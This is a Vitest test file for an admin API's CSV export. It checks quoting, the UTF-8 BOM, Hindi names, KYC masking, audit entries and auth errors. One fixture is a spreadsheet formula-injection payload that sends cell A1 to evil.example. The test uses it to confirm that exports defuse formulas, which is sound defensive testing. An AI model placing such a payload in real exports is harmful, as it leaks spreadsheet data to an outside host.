import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appToken } from '../../test/app-tokens';
import {
  CLEAR_KYC,
  daysFromNow,
  insertBooking,
  insertCategory,
  insertCustomer,
  insertCustomerComplaint,
  insertCustomerPayment,
  insertPlan,
  insertSubService,
  insertVendor,
  insertVendorComplaint,
  insertVendorPayment,
  insertVendorsInEveryState,
} from '../../test/factories';
import { parseCsv } from '../../test/parse-csv';
import { createTestApp, type TestApp } from '../../test/test-app';
import { testDialect } from '../../test/test-database';
import { exportFileName } from './csv-export';

const API = '/api/v1/admin/data';
/** A name that needs every RFC 4180 rule, and one in Devanagari (the BOM is what makes Excel read it). */
const AWKWARD = 'Kumar, "Raju"\nSons';
const HINDI = 'राजेश कुमार';
/** A complaint that a spreadsheet would run as a formula, sending the sheet's A1 away (OWASP's CSV Injection). */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';

/** Each list screen's call, with the query the screen would send, and its export's name. */
const LISTS: readonly { path: string; query: string; list: string }[] = [
  { path: 'vendors', query: 'view=all&is_blocked=0&sort=vendor_name', list: 'vendors' },
  { path: 'getvendors_approve', query: '', list: 'approved-vendors' },
  { path: 'getvendors_pending', query: 'q=a', list: 'pending-vendors' },
  { path: 'getvendors_reject', query: '', list: 'rejected-vendors' },
  { path: 'getblockvendors', query: '', list: 'blocked-vendors' },
  { path: 'getVendorsWithSubscription', query: '', list: 'subscribed-vendors' },
  { path: 'getVendorsCompletedTrialNoPurchase', query: '', list: 'unsubscribed-vendors' },
  { path: 'getfreetrialvendors', query: '', list: 'trial-vendors' },
  { path: 'getcustomerservicedetails', query: 'assigned=0', list: 'unassigned-bookings' },
  { path: 'getcustomerservicedetails', query: 'assigned=1', list: 'assigned-bookings' },
  { path: 'getcustomers', query: 'sort=-customer_name', list: 'customers' },
  { path: 'allpaymentdetails', query: '', list: 'customer-payments' },
  { path: 'getvendorpaymentdetails', query: '', list: 'vendor-payments' },
  { path: 'getvendorscomplaints', query: '', list: 'vendor-complaints' },
  { path: 'getCUSTOMERCOMPLAINTS', query: '', list: 'customer-complaints' },
  { path: 'getSERVICE_CATEGORIES', query: '', list: 'service-categories' },
  { path: 'getSERVICES', query: '', list: 'sub-services' },
  { path: 'getSUBSCRIPTIONS', query: '', list: 'subscription-plans' },
  { path: '../audit', query: 'entity=export', list: 'audit-log' },
];

/** A JSON value's text in a cell (docs/product/cockpit.md#csv-export). */
function text(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return value.map(text).join('; ');
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

/** The cell docs/product/cockpit.md#csv-export writes for a JSON value: text starting like a formula gets a `'`. */
function cell(value: unknown): string {
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  const written = text(value);
  return /^[=+\-@\t\r]/.test(written) ? `'${written}` : written;
}

/** The value at a dotted column of a JSON row (undefined under a null object). */
function at(row: unknown, column: string): unknown {
  let value = row;
  for (const key of column.split('.')) {
    value = value !== null && typeof value === 'object' ? (value as Record<string, unknown>)[key] : undefined;
  }
  return value;
}

/**
 * The JSON row as the CSV record for `header`. Every field of the row has its column: itself, or
 * dotted columns for a nested object's fields (an object without such columns, e.g. an audit row's
 * `after`, is one JSON cell).
 */
function expectedRecord(row: Record<string, unknown>, header: readonly string[]): Record<string, string> {
  for (const key of Object.keys(row)) {
    expect(
      header.some((name) => name === key || name.startsWith(`${key}.`)),
      `${key} has a column`,
    ).toBe(true);
  }
  return Object.fromEntries(header.map((name) => [name, cell(at(row, name))]));
}

describe(`CSV export of every list (${testDialect})`, () => {
  let t: TestApp;
  let token: string;
  const get = (path: string, auth = true) => t.request('GET', path, auth ? { token } : {});
  /** The body's bytes as text with a BOM kept (fetch's text() drops it). */
  async function getCsv(path: string) {
    const res = await fetch(`${t.baseUrl}${path}`, { headers: { authorization: `Bearer ${token}` } });
    const body = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    return { status: res.status, headers: res.headers, body };
  }

  beforeAll(async () => {
    t = await createTestApp();
    token = await t.login();
    const db = t.database.handle.db;
    await insertVendorsInEveryState(db);
    const awkward = await insertVendor(db, { vendor_name: AWKWARD });
    const hindi = await insertVendor(db, { vendor_name: HINDI });
    const category = await insertCategory(db, { service_category_name: 'Plumbing, "wet" work' });
    await insertSubService(db, category, { service_name: 'Tap\nrepair' });
    await insertPlan(db, { subscription_name: 'Gold, "yearly"', subscription_price: 999 });
    const customer = await insertCustomer(db, { customer_name: AWKWARD });
    const other = await insertCustomer(db, { customer_name: HINDI });
    const booking = await insertBooking(db, customer, category);
    await insertBooking(db, other, category, { vendor_id: hindi.vendor_id, is_booked: 1 });
    await insertCustomerPayment(db, booking);
    await insertVendorPayment(db, awkward);
    await insertVendorComplaint(db, awkward, {
      vend_comp_desc: 'Late, "again"',
      vend_comp_date: daysFromNow(-1),
    });
    await insertCustomerComplaint(db, customer, { cust_comp_desc: 'Line one\nline two' });
  });
  afterAll(() => t.close());

  for (const { path, query, list } of LISTS) {
    it(`${list}: the JSON list's rows, row for row, as an audited attachment`, async () => {
      const json = await get(`${API}/${path}?${query}`);
      expect(json.status).toBe(200);
      const before = await t.database.handle.db.selectFrom('audit_log').select('id').execute();
      const res = await getCsv(`${API}/${path}?${query}&format=csv&limit=1&offset=1`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="${exportFileName(list, Date.now())}"`,
      );
      const csv = parseCsv(res.body);
      expect(csv.bom).toBe(true);
      expect(csv.header.length).toBeGreaterThan(0);
      // limit and offset are ignored: every matching row.
      expect(csv.records).toEqual(
        json.body.data.map((row: Record<string, unknown>) => expectedRecord(row, csv.header)),
      );
      const audit = await t.database.handle.db
        .selectFrom('audit_log')
        .selectAll()
        .where('id', 'not in', before.length ? before.map((r) => r.id) : [0])
        .execute();
      expect(audit).toHaveLength(1);
      expect(audit[0]).toMatchObject({ action: `${list}.exported`, entity: 'export', entity_id: null });
      expect(audit[0]!.admin_id).toEqual(expect.any(Number));
      const after = JSON.parse(audit[0]!.after!);
      expect(after).not.toHaveProperty('format');
      expect(after).not.toHaveProperty('limit');
      for (const pair of query ? query.split('&') : []) {
        const [key, value] = pair.split('=');
        expect(String(after[key!])).toBe(value);
      }
    });
  }

  it('quotes commas, quotes and newlines, keeps Hindi as UTF-8 and masks KYC as the JSON list does', async () => {
    const res = await getCsv(`${API}/getvendors_pending?format=csv`);
    const text = res.body;
    expect(text).toContain('"Kumar, ""Raju""\nSons"');
    const { records } = parseCsv(text);
    const names = records.map((r) => r.vendor_name);
    expect(names).toContain(AWKWARD);
    expect(names).toContain(HINDI);
    for (const secret of Object.values(CLEAR_KYC)) expect(text).not.toContain(secret);
    const json = (await get(`${API}/getvendors_pending`)).body.data[0];
    expect(records[0]!['kyc_docs.pan']).toBe(json.kyc_docs.pan);
    expect(records[0]!['account_details.accountNumber']).toBe(json.account_details.accountNumber);
    expect(records[0]!['account_details.ifsc']).toBe('HDFC0001234');
  });

  it("writes a customer's complaint that is a formula as text, and the JSON list as the customer wrote it", async () => {
    const customer = await appToken(t, 'customer', '9300000001');
    const profile = await t.request('PUT', '/api/v1/customer/me', {
      token: customer,
      body: {
        customer_name: 'Formula Tester',
        customer_email: 'formula@example.in',
        customer_country: 'India',
        gender: 'Other',
        customer_address: { street: '1 MG Rd', city: 'Pune', state: 'Maharashtra', zip: '411001' },
      },
    });
    expect(profile.status).toBe(200);
    const filed = await t.request('POST', '/api/v1/customer/me/complaints', {
      token: customer,
      body: { cust_comp_desc: HYPERLINK },
    });
    expect(filed.status).toBe(201);
    const id = filed.body.data.cust_comp_id;

    const json = await get(`${API}/getCUSTOMERCOMPLAINTS?q=Formula%20Tester`);
    expect(json.body.data.map((row: { cust_comp_id: number }) => row.cust_comp_id)).toEqual([id]);
    expect(json.body.data[0].cust_comp_desc).toBe(HYPERLINK);

    const res = await getCsv(`${API}/getCUSTOMERCOMPLAINTS?q=Formula%20Tester&format=csv`);
    expect(res.status).toBe(200);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")"`);
    const { records } = parseCsv(res.body);
    expect(records).toHaveLength(1);
    expect(records[0]!.cust_comp_id).toBe(String(id));
    expect(records[0]!.cust_comp_desc).toBe(`'${HYPERLINK}`);
  });

  it('answers an empty list with the BOM and the header only', async () => {
    const res = await getCsv(`${API}/getcustomers?q=nobody-like-this&format=csv`);
    const csv = parseCsv(res.body);
    expect(csv.bom).toBe(true);
    expect(csv.header).toContain('customer_name');
    expect(csv.records).toEqual([]);
  });

  it('refuses an unknown format with 400 naming the field, and no token with 401', async () => {
    const bad = await get(`${API}/getcustomers?format=xlsx`);
    expect(bad.status).toBe(400);
    expect(JSON.stringify(bad.body.errors)).toContain('format');
    expect((await get(`${API}/getcustomers?format=csv`, false)).status).toBe(401);
    const wrong = await t.request('GET', `${API}/vendors?format=csv`, { token: 'not-a-token' });
    expect(wrong.status).toBe(401);
  });
});
